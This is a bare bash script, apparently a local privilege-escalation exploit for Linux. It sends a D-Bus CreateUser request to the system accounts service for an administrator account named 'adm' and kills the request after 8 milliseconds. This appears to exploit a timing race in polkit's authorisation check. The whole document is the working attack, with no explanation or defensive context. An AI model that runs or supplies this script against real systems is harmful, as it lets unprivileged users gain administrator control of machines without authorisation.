#!/bin/bash
N=org.freedesktop.Accounts
dbus-send --system --dest=$N --type=method_call --print-reply /org/freedesktop/Accounts org.freedesktop.Accounts.CreateUser string:adm string:adm int32:1 &
sleep 0.008s; kill $!
